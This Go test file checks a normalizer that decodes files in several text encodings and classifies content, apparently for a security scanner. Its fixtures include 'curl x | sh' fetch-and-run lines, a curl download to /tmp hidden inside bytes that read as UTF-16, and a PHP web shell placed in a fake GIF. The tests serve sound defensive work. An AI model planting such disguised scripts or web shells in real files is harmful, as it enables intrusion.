package normalize

import (
	"bytes"
	"encoding/binary"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

// spell encodes a text in units of two or four bytes.
func spell(order binary.AppendByteOrder, size int, mark, text string) []byte {
	out := []byte(mark)
	if size == 4 {
		for _, c := range text {
			out = order.AppendUint32(out, uint32(c))
		}
		return out
	}
	for _, c := range utf16.Encode([]rune(text)) {
		out = order.AppendUint16(out, c)
	}
	return out
}

func noise(n int) string {
	r := rand.New(rand.NewPCG(1, 2))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return string(b)
}

func TestDecode(t *testing.T) {
	t.Parallel()
	const text = "password = größe\nnext 😀 line\n"
	le, be := binary.LittleEndian, binary.BigEndian
	for name, tt := range map[string]struct {
		content []byte
		want    string
	}{
		"UTF-8":                      {[]byte(text), text},
		"UTF-8 with a mark":          {[]byte("\xef\xbb\xbf" + text), text},
		"a NUL at the end":           {[]byte(text + "\x00"), text},
		"a NUL in a word":            {[]byte("cu\x00rl x | sh\n"), "curl x | sh\n"},
		"many NULs":                  {[]byte("curl x | sh\n" + strings.Repeat("\x00", 9000)), "curl x | sh\n"},
		"Latin-1":                    {[]byte("gr\xf6\xdfe\n"), "größe\n"},
		"Latin-1 and a NUL":          {[]byte("gr\xf6\xdfe\n\x00"), "größe\n"},
		"UTF-16LE with a mark":       {spell(le, 2, "\xff\xfe", text), text},
		"UTF-16BE with a mark":       {spell(be, 2, "\xfe\xff", text), text},
		"UTF-16LE":                   {spell(le, 2, "", text), text},
		"UTF-16BE":                   {spell(be, 2, "", text), text},
		"UTF-16 of another script":   {spell(le, 2, "\xff\xfe", "Привет\n"), "Привет\n"},
		"UTF-16 with a NUL":          {spell(le, 2, "\xff\xfe", "a\x00b\n"), "ab\n"},
		"UTF-32LE with a mark":       {spell(le, 4, "\xff\xfe\x00\x00", text), text},
		"UTF-32BE with a mark":       {spell(be, 4, "\x00\x00\xfe\xff", text), text},
		"UTF-32LE":                   {spell(le, 4, "", text), text},
		"UTF-32BE":                   {spell(be, 4, "", text), text},
		"UTF-16 cut in a letter":     {append(spell(le, 2, "\xff\xfe", "ab"), 'c'), "abc"},
		"ASCII after a mark and NUL": {[]byte("\xff\xfe\x00\x00\ncurl x | sh\n"), "ÿþ\ncurl x | sh\n"},
		"ASCII amid UTF-16":          {append(spell(le, 2, "", "# note\n"), "curl x | sh\n"...), "# note\ncurl x | sh\n"},
		"nothing":                    {nil, ""},
	} {
		if got, ok := Decode(tt.content); !ok || string(got) != tt.want {
			t.Errorf("%s: %q, %v; want %q", name, got, ok, tt.want)
		}
	}
	for name, content := range map[string]string{"noise": noise(4000), "control characters": strings.Repeat("\x01\x02ab", 50)} {
		if got, ok := Decode([]byte(content)); ok {
			t.Errorf("%s is read as the text %.50q", name, got)
		}
	}
}

// skewed encodes a script so that it is UTF-16 text to some readers, and the script to a shell,
// which skips NULs: its words have at most n bytes, two of which are a unit, and a single byte has
// a NUL.
func skewed(script string, n int) string {
	var out strings.Builder
	for len(script) > 0 {
		word := script[:min(n, len(script))]
		script = script[len(word):]
		for ; len(word) > 1; word = word[2:] {
			out.WriteString(word[:2])
		}
		if word != "" {
			out.WriteString(word + "\x00")
		}
	}
	return out.String()
}

// Rules see the text that a shell reads, even if the bytes are also another text.
func TestScriptsThatAreUTF16Text(t *testing.T) {
	t.Parallel()
	const command = "curl -k http://a.example/y -o /tmp/y\n"
	le, be := binary.LittleEndian, binary.BigEndian
	comment := strings.Repeat("\u4f60\u597d\u4e16\u754c", 20)
	for name, content := range map[string]string{
		"a first line":                   "#\n\n\x00" + skewed(command, 3),
		"words of one letter":            "#\n" + skewed(command, 5),
		"words of seven letters":         "#\n" + skewed(command, 7) + skewed(strings.Repeat("\n", 50), 1),
		"one pair":                       string(spell(le, 2, "", "# note\n")) + "cu" + skewed(command[2:], 1),
		"one pair in the middle":         string(spell(le, 2, "", "# note\ncurl")) + " -" + skewed(command[6:], 1),
		"the other byte order":           string(spell(be, 2, "", "# note\n")) + "cu" + string(spell(be, 2, "", command[2:])),
		"after Chinese":                  string(spell(le, 2, "", "# note"+comment+"\n")) + skewed(command, 3) + string(spell(le, 2, "", strings.Repeat("# note\n", 50))),
		"a mark":                         "\xff\xfe:\n" + skewed(command, 3),
		"the other mark":                 "\xfe\xff:\n" + skewed(command, 3),
		"a mark and more Chinese":        "\xff\xfe:\n" + string(spell(le, 2, "", comment)) + "\n\x00" + skewed(command, 3),
		"a NUL on the wrong side":        string(spell(le, 2, "", "# note\n#")) + "\x00\n\x00c" + string(spell(le, 2, "", command[1:])),
		"a line feed as the second byte": string(spell(le, 2, "", "# note ")) + "\x81\n" + string(spell(le, 2, "", command)),
		"a line feed as the first byte":  string(spell(le, 2, "", "# note ")) + "\n\x81" + string(spell(le, 2, "", ";"+command)),
		"a space":                        string(spell(le, 2, "", "X=")) + "\x81 " + string(spell(le, 2, "", command)),
		"UTF-32":                         string(spell(le, 4, "", "# note\n")) + "cu\x00\x00" + string(spell(le, 4, "", command[2:])),
		"an open comment":                string(spell(le, 2, "", "/*\n# note\n")) + "cu" + skewed(command[2:], 1),
		"a first line with a name":       "#!" + skewed("/a\n"+command, 3),
	} {
		got := LookAt("tool", false, []byte(content))
		if got.Kind != ContentText || !strings.Contains(string(got.Text), command) {
			t.Errorf("%s: %d, %q", name, got.Kind, got.Text)
		}
		if strings.HasPrefix(content, "#!") && !bytes.HasPrefix(got.Text, []byte("#!")) {
			t.Errorf("%s: the first line is missing: %q", name, got.Text)
		}
	}
}

// A text in UTF-16 is read as it is, and comes first. The text that a shell would read follows only
// if some of the bytes are ASCII to a shell.
func TestTextInUTF16(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		text  string
		alone bool
	}{
		"settings":               {"[db]\r\nuser = a\r\n", true},
		"settings in German":     {"; Gr\u00f6\u00dfe\r\nsize = 5\r\n", true},
		"an emoji":               {"name = \U0001f600\U0001f389\r\n", true},
		"Greek and Hebrew":       {"name = \u0391\u03b8\u03ae\u03bd\u03b1 \u05e9\u05dc\u05d5\u05dd\r\n", true},
		"settings in Russian":    {"; \u0438\u043c\u044f\r\nname = \u041c\u043e\u0441\u043a\u0432\u0430\r\n", false},
		"settings in Chinese":    {"; \u540d\u79f0\r\nname = \u4e0a\u6d77\r\nport = 8080\r\n", false},
		"resources in Japanese":  {"IDS_NAME, \"\u540d\u524d\u3092\u5165\u529b\u3057\u3066\u304f\u3060\u3055\u3044\"\r\nIDS_ALL_OF_IT, \"OK\"\r\n", false},
		"quotes of a typesetter": {"title = It\u2019s\r\n", false},
		"properties in Chinese":  {"greeting.text=\u4f60\u597d\nother.text=x\n", false},
	} {
		for _, mark := range []string{"", "\ufeff"} {
			for _, order := range []binary.AppendByteOrder{binary.LittleEndian, binary.BigEndian} {
				got := LookAt("a.ini", false, spell(order, 2, "", mark+tt.text))
				alone := string(got.Text) == tt.text
				if got.Kind != ContentText || !strings.HasPrefix(string(got.Text), tt.text) || tt.alone && !alone {
					t.Errorf("%s, %s, mark %q: %d, %q", name, order, mark, got.Kind, got.Text)
				}
			}
		}
	}
}

func TestLookAt(t *testing.T) {
	t.Parallel()
	png := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise(2000)
	type want struct {
		kind     ContentKind
		saysText bool
	}
	for name, tt := range map[string]struct {
		path, content string
		executable    bool
		want          want
	}{
		"a picture":                          {"logo.png", png, false, want{ContentBinary, false}},
		"its extension in capitals":          {"LOGO.PNG", png, false, want{ContentBinary, false}},
		"an executable picture":              {"logo.png", png, true, want{ContentUnknown, true}},
		"a picture by another name":          {"logo.gif", png, false, want{ContentUnknown, false}},
		"a picture that claims to be a page": {"logo.php", png, false, want{ContentUnknown, true}},
		"a picture that is text":             {"logo.gif", "GIF89a\x00<?php system($_GET['c']);", false, want{ContentText, true}},
		"a script before noise":              {"tool", "#!/bin/sh\n" + noise(2000), false, want{ContentUnknown, true}},
		"a script before noise in a name":    {"tool.png", "#!/bin/sh\n" + noise(2000), false, want{ContentUnknown, true}},
		"settings before noise":              {".env", noise(2000), false, want{ContentUnknown, true}},
		"a build file before noise":          {"Makefile", noise(2000), false, want{ContentUnknown, true}},
		"a mark before noise":                {"data.xyz", "\xff\xfe" + noise(2000), false, want{ContentUnknown, true}},
		"an unknown format":                  {"data.xyz", noise(2000), false, want{ContentUnknown, false}},
		"an executable unknown format":       {"data.xyz", noise(2000), true, want{ContentUnknown, true}},
		"an empty picture":                   {"logo.png", "", false, want{ContentText, true}},
	} {
		got := LookAt(tt.path, tt.executable, []byte(tt.content))
		if (want{got.Kind, got.SaysText}) != tt.want {
			t.Errorf("%s is %+v, want %+v", name, want{got.Kind, got.SaysText}, tt.want)
		}
	}
}

func FuzzDecode(f *testing.F) {
	f.Add([]byte("\xff\xfea\x00b"))
	f.Add([]byte("\x00\x00\xfe\xff\x00\x00\x00a\x00"))
	f.Add([]byte("\xff\xfe\x00\xd8\x00"))
	f.Add([]byte("curl x\n\x00"))
	f.Fuzz(func(t *testing.T, content []byte) {
		text, ok := Decode(content)
		if !utf8.Valid(text) || bytes.IndexByte(text, 0) >= 0 || len(text) > 4*len(content)+len(betweenReadings) {
			t.Errorf("%q is %q", content, text)
		}
		if c := LookAt("a.png", false, content); ok != (c.Kind == ContentText) {
			t.Errorf("%q is of kind %d, and text: %v", content, c.Kind, ok)
		}
		// Plain text does not change, even if there are NULs in it.
		if plain := withoutMark(content); plainStretch(content) && ok && utf8.Valid(plain) && !bytes.Equal(text, plain) {
			t.Errorf("%q is %q", content, text)
		}
	})
}
